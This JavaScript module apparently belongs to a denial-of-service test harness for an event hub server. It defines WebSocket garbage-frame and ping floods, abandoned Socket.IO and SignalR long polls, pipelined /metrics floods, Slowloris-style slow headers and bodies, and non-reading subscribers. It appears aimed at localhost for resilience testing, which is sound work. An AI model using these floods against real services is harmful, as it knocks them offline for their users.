// Below the protocols' commands: frames, polls, HTTP requests, and readers that are slow.
import { EVENT_HUB, openSocketIo, SOCKETIO_POLL, SOCKETIO_WS, socketIoCommand } from '../protocols.mjs';
import { frame, RawConnection, RawWebSocket } from '../raw-connection.mjs';
import { inLanes } from './admission.mjs';

/** @typedef {import('../attacker.mjs').Target} Target */
/** @typedef {import('../attacks.mjs').Attack} Attack */

const POLLS = 1_500;
const POLLS_AT_ONCE = 50;
const FILLING = 'x'.repeat(60_000);
const METRICS_REQUESTS = 3_000;
const SLOW_REQUESTS = 2_000;
const SLOW_CONSUMERS = 400;
const PING = 0x9;

/**
 * One request over a connection of its own; resolves to the body of the answer.
 * @param {Target} target
 * @param {string} path
 * @param {{ method?: string, body?: string }} [init]
 */
async function request(target, path, { method = 'GET', body } = {}) {
  const headers = target.token ? { authorization: `Bearer ${target.token}` } : {};
  const response = await fetch(target.url + path, { method, headers, ...(body !== undefined && { body }) });
  if (!response.ok) target.tally(`${response.status}`);
  return response.text();
}

/**
 * Begins a request and never waits for the answer: the poll hangs for as long as the hub lets it.
 * @param {Target} target
 * @param {string} path
 */
async function abandon(target, path) {
  const link = new RawConnection(target);
  link.tallyStatuses();
  const token = target.token ? `Authorization: Bearer ${target.token}\r\n` : '';
  await link.write(`GET ${path} HTTP/1.1\r\nHost: localhost\r\n${token}\r\n`);
  link.socket.pause();
}

/**
 * Keeps the events busy that those who do not read have subscribed to.
 * @param {Target} target
 * @param {string} eventguid
 */
async function fill(target, eventguid) {
  const link = await openSocketIo(target);
  await link?.flood(socketIoCommand('TriggerEvent', eventguid, FILLING));
}

/** @param {Target} target */
async function abandonEngineIo(target) {
  const { sid } = JSON.parse((await request(target, SOCKETIO_POLL)).slice(1));
  const path = `${SOCKETIO_POLL}&sid=${sid}`;
  const auth = JSON.stringify(target.token ? { token: target.token } : {});
  const body = `40${auth}\x1e420${JSON.stringify(['SubscribeToEvent', 'polled', 'c'])}`;
  await request(target, path, { method: 'POST', body });
  target.tally('abandoned');
  await abandon(target, path);
}

/** @param {Target} target */
async function abandonSignalR(target) {
  const negotiated = JSON.parse(
    await request(target, `${EVENT_HUB}/negotiate?negotiateVersion=1`, { method: 'POST' }),
  );
  const path = `${EVENT_HUB}?id=${encodeURIComponent(negotiated.connectionToken)}`;
  const subscribe = { type: 1, target: 'SubscribeToEvent', arguments: ['polled', 'c'] };
  await request(target, path);
  const body = `{"protocol":"json","version":1}\x1e${JSON.stringify(subscribe)}\x1e`;
  await request(target, path, { method: 'POST', body });
  target.tally('abandoned');
  await abandon(target, path);
}

/**
 * @param {Target} target
 * @param {(target: Target) => Promise<void>} abandonOne
 */
async function abandonPolls(target, abandonOne) {
  for (let count = 0; count < POLLS && !target.signal.aborted; count += POLLS_AT_ONCE) {
    const batch = Array.from({ length: POLLS_AT_ONCE }, () => abandonOne(target));
    for (const { status } of await Promise.allSettled(batch))
      if (status === 'rejected') target.tally('failed');
  }
  await fill(target, 'polled');
}

/**
 * Requests that never end.
 * @param {Target} target
 * @param {string} head
 */
async function dribble(target, head) {
  const links = Array.from({ length: SLOW_REQUESTS }, () => new RawConnection(target));
  for (const link of links) {
    link.tallyStatuses();
    link.socket.write(head);
  }
  await inLanes(target, 1, async () => {
    for (const link of links) if (link.isOpen) link.socket.write('a');
    await new Promise((resolve) => setTimeout(resolve, 500));
  });
}

/** @type {Record<string, Attack>} */
export const transportAttacks = {
  'garbage-frames': {
    what: 'WebSocket frames that are nothing in Socket.IO',
    run: (target) =>
      inLanes(target, 4, async () => {
        const link = await openSocketIo(target);
        await link?.flood(Buffer.concat(Array.from({ length: 100 }, () => frame('\x00garbage'))));
        link?.end();
      }),
  },
  pings: {
    what: 'WebSocket pings of one connection',
    isAnonymous: true,
    run: (target) =>
      inLanes(target, 1, async () => {
        const link = await RawWebSocket.open(target, SOCKETIO_WS);
        await link?.flood(Buffer.concat(Array.from({ length: 1_000 }, () => frame('ping', PING))));
        link?.end();
      }),
  },
  'pings-unread': {
    what: 'WebSocket pings of 4 connections that read no pong',
    isAnonymous: true,
    run: (target) =>
      inLanes(target, 4, async () => {
        const link = await RawWebSocket.open(target, SOCKETIO_WS);
        link?.deafen();
        await link?.flood(Buffer.concat(Array.from({ length: 500 }, () => frame('p'.repeat(125), PING))));
        link?.end();
      }),
  },
  'engine-pings': {
    what: 'Engine.IO packets of nothing (pong, noop) of one connection',
    run: (target) =>
      inLanes(target, 1, async () => {
        const link = await openSocketIo(target);
        await link?.flood(Buffer.concat(Array.from({ length: 1_000 }, () => frame('3'))));
        link?.end();
      }),
  },
  'polls-socketio': {
    what: `${POLLS} abandoned long polls of Socket.IO, and triggers of 60 KB to them`,
    prepare: (target) => abandonPolls(target, abandonEngineIo),
    run: (target) => fill(target, 'polled'),
  },
  'polls-signalr': {
    what: `${POLLS} abandoned long polls of SignalR, and triggers of 60 KB to them`,
    prepare: (target) => abandonPolls(target, abandonSignalR),
    run: (target) => fill(target, 'polled'),
  },
  metrics: {
    what: `${METRICS_REQUESTS} pipelined requests for /metrics, again and again`,
    isAnonymous: true,
    run: (target) =>
      inLanes(target, 1, async () => {
        const link = new RawConnection(target);
        link.tallyStatuses();
        const wanted = 'GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n';
        await link.write(wanted.repeat(METRICS_REQUESTS));
        await Promise.race([link.closed, new Promise((resolve) => setTimeout(resolve, 3_000))]);
        link.end();
      }),
  },
  'slow-headers': {
    what: `${SLOW_REQUESTS} requests whose headers never end`,
    isAnonymous: true,
    run: (target) => dribble(target, 'GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: '),
  },
  'slow-bodies': {
    what: `${SLOW_REQUESTS} requests whose bodies never end`,
    isAnonymous: true,
    run: (target) =>
      dribble(
        target,
        'POST /v1/events/slow/trigger HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\nContent-Length: 60000\r\n\r\n',
      ),
  },
  'slow-consumers': {
    what: `${SLOW_CONSUMERS} subscribers that do not read, of events with 60 KB of data each`,
    prepare: async (target) => {
      for (let count = 0; count < SLOW_CONSUMERS && !target.signal.aborted; count++) {
        const link = await openSocketIo(target);
        await link?.write(socketIoCommand('SubscribeToEvent', `unread ${count % 20}`, 'c'));
        link?.deafen();
        target.tally('deaf');
      }
    },
    run: async (target) => {
      const lanes = Array.from({ length: 20 }, (_, number) => fill(target, `unread ${number}`));
      await Promise.all(lanes);
    },
  },
};
